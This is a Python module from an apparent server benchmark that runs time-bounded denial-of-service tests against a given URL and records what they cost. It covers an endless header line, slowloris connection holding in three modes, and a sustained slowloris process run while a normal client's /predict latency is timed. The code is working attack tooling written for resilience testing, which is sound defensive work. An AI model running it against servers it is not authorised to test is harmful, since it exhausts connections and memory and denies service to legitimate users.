"""Attacks on request heads and connections, each for a bounded time, with what they cost.

Run against a served URL (and the server's pid for its memory): an endless header line, idle
and slowloris connections, and a normal client's /predict latency while thousands are held.
"""

from __future__ import annotations

import contextlib
import multiprocessing
import resource
import selectors
import socket
import statistics
import time
from dataclasses import dataclass
from multiprocessing.synchronize import Event as EventType
from urllib.parse import urlsplit

import httpx

from sepconv_bench.proc_stats import rss_bytes


def _address(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    return parts.hostname or "127.0.0.1", parts.port or 80


def raise_fd_limit(wanted: int) -> int:
    """Raise this process's soft file-descriptor limit towards ``wanted``; the limit now."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


@dataclass
class EndlessHeaderFigures:
    connections: int
    bytes_sent: int
    rss_growth_bytes: int
    answered: list[bytes]


def endless_header(
    url: str, pid: int, connections: int = 2, duration_s: float = 10.0
) -> EndlessHeaderFigures:
    """Unterminated ``X-A: aaaa...`` lines, 16 KiB at a time; the server's memory growth."""
    host, port = _address(url)
    before = rss_bytes(pid)
    socks = [socket.create_connection((host, port), timeout=5) for _ in range(connections)]
    for sock in socks:
        sock.sendall(b"GET /health/live HTTP/1.1\r\nHost: x\r\nX-A: ")
        sock.setblocking(False)
    chunk, sent, peak = b"a" * 16 * 1024, 0, before
    answers = [b""] * connections
    deadline = time.monotonic() + duration_s
    while time.monotonic() < deadline:
        for index, sock in enumerate(socks):
            with contextlib.suppress(BlockingIOError, BrokenPipeError, ConnectionResetError):
                sent += sock.send(chunk)
            with contextlib.suppress(BlockingIOError, ConnectionResetError):
                answers[index] += sock.recv(4096)
        peak = max(peak, rss_bytes(pid))
        time.sleep(0.005)
    for sock in socks:
        sock.close()
    return EndlessHeaderFigures(connections, sent, peak - before, [a[:80] for a in answers])


@dataclass
class HeldFigures:
    opened: int
    refused_at_once: int
    still_open_after_s: dict[float, int]


def slowloris(
    url: str, connections: int = 3000, duration_s: float = 15.0, mode: str = "silent"
) -> HeldFigures:
    """Hold ``connections`` that never finish their head; how many the server still keeps.

    ``mode``: "silent" sends nothing, "partial" half a request line, "trickle" one header
    byte every 5 seconds.
    """
    raise_fd_limit(connections + 256)
    host, port = _address(url)
    socks: list[socket.socket] = []
    for _ in range(connections):
        try:
            sock = socket.create_connection((host, port), timeout=5)
        except OSError:
            break
        sock.setblocking(False)
        if mode != "silent":
            with contextlib.suppress(OSError):
                sock.send(b"GET /health/li" if mode == "partial" else b"GET / HTTP/1.1\r\n")
        socks.append(sock)
    started = time.monotonic()
    open_after: dict[float, int] = {}
    refused_at_once = _count_closed(socks)
    last_trickle = started
    for mark in (1.0, 2.0, 5.0, 10.0, duration_s):
        if mark > duration_s:
            continue
        while time.monotonic() - started < mark:
            if mode == "trickle" and time.monotonic() - last_trickle >= 5:
                for sock in socks:
                    with contextlib.suppress(OSError):
                        sock.send(b"X")
                last_trickle = time.monotonic()
            time.sleep(0.05)
        open_after[mark] = len(socks) - _count_closed(socks)
    for sock in socks:
        sock.close()
    return HeldFigures(len(socks), refused_at_once, open_after)


def _count_closed(socks: list[socket.socket]) -> int:
    closed = 0
    for sock in socks:
        try:
            data = sock.recv(4096, socket.MSG_PEEK)
        except BlockingIOError:
            continue
        except OSError:
            closed += 1
            continue
        if not data or b"HTTP/1.1" in data:
            closed += 1
    return closed


def predict_latency_during_slowloris(
    url: str, image: bytes, connections: int = 3000, duration_s: float = 10.0
) -> dict[str, float]:
    """/predict latency (ms) of a normal client, a new connection per request, for
    ``duration_s`` while another process keeps ``connections`` slowloris connections open.

    The attacker sends a request line and one header, never the end of the head, and opens a
    new connection for each one the server closes (its head deadline), so the count stays up
    for the whole measurement, as a real attacker's would. It runs in its own process, so that
    its work does not slow this client's timing down.
    """
    context = multiprocessing.get_context("spawn")
    stop, ready = context.Event(), context.Event()
    report: multiprocessing.Queue[dict[str, float]] = context.Queue()
    host, port = _address(url)
    attacker = context.Process(
        target=_hold_slowloris, args=(host, port, connections, stop, ready, report), daemon=True
    )
    attacker.start()
    timings: list[float] = []
    failures = 0
    try:
        ready.wait(timeout=60)
        deadline = time.monotonic() + duration_s
        while time.monotonic() < deadline:
            began = time.perf_counter()
            try:
                answer = httpx.post(
                    f"{url}/predict",
                    content=image,
                    headers={"content-type": "image/png"},
                    timeout=30,
                )
                ok = answer.status_code == 200
            except httpx.HTTPError:
                ok = False
            if ok:
                timings.append((time.perf_counter() - began) * 1000)
            else:
                failures += 1
    finally:
        stop.set()
        held = report.get(timeout=60)
        attacker.join(timeout=30)
    timings.sort()
    return {
        **held,
        "requests": float(len(timings) + failures),
        "failures": float(failures),
        "p50_ms": statistics.median(timings) if timings else float("nan"),
        "p99_ms": timings[min(len(timings) - 1, int(len(timings) * 0.99))]
        if timings
        else float("nan"),
        "max_ms": timings[-1] if timings else float("nan"),
    }


def _hold_slowloris(
    host: str,
    port: int,
    connections: int,
    stop: EventType,
    ready: EventType,
    report: multiprocessing.Queue[dict[str, float]],
) -> None:
    """Keep ``connections`` unfinished request heads open until ``stop``; report the counts."""
    raise_fd_limit(connections + 256)
    held = selectors.DefaultSelector()
    opened = closed_by_server = refused = 0
    samples: list[int] = []
    try:
        while not stop.is_set():
            # A socket the server answered (408) or closed becomes readable: replace it.
            for key, _ in held.select(timeout=0):
                held.unregister(key.fileobj)
                key.fileobj.close()  # type: ignore[union-attr]
                closed_by_server += 1
            while len(held.get_map()) < connections and not stop.is_set():
                try:
                    sock = socket.create_connection((host, port), timeout=5)
                    sock.sendall(b"GET / HTTP/1.1\r\nHost: attacker\r\n")
                except OSError:
                    refused += 1
                    break
                sock.setblocking(False)
                held.register(sock, selectors.EVENT_READ)
                opened += 1
            if len(held.get_map()) >= connections:
                ready.set()
            if ready.is_set():  # the counts while the client is timed, not the ramp-up
                samples.append(len(held.get_map()))
            stop.wait(0.2)
    finally:
        ready.set()
        for key in list(held.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
        held.close()
        report.put(
            {
                "held_min": float(min(samples or [0])),
                "held_mean": statistics.fmean(samples) if samples else 0.0,
                "opened": float(opened),
                "closed_by_server": float(closed_by_server),
                "refused": float(refused),
            }
        )
